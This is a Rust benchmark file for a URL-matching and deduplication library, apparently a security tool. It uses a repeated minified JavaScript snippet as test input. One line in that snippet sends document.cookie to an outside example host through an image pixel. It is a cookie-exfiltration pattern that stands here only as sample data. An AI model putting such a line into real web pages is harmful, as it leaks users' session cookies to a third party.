// Copyright (c) 2026 Bountyy Oy. All rights reserved.

use criterion::{black_box, criterion_group, criterion_main, Criterion};
use urlhook::{DedupStore, UrlMatcher};

fn matcher_benchmark(c: &mut Criterion) {
    let script = r#"
        (function(){var e="https://cdn.example.com/lib.js",t='https://api.example.com/v1/track?id=42';
        fetch(e).then(function(r){return r.json()});navigator.sendBeacon(t,JSON.stringify({u:location.href}));
        var img=new Image;img.src="https://pixel.example.net/p.gif?c="+document.cookie;})();
    "#
    .repeat(50);
    let matcher = UrlMatcher::new();

    c.bench_function("url_matcher_find_iter", |b| {
        b.iter(|| black_box(matcher.find_iter(black_box(&script)).count()))
    });

    c.bench_function("url_matcher_is_match_miss", |b| {
        b.iter(|| black_box(matcher.is_match(black_box("var x = compute(a, b) + '/relative/path';"))))
    });
}

fn dedup_benchmark(c: &mut Criterion) {
    let urls: Vec<String> = (0..1000)
        .map(|i| format!("https://host{}.example.com/path/{}", i % 100, i))
        .collect();

    c.bench_function("dedup_check_and_insert", |b| {
        b.iter(|| {
            let store = DedupStore::new();
            for url in &urls {
                black_box(store.check_and_insert(url));
            }
            for url in &urls {
                black_box(store.check_and_insert(url));
            }
        })
    });
}

criterion_group!(benches, matcher_benchmark, dedup_benchmark);
criterion_main!(benches);
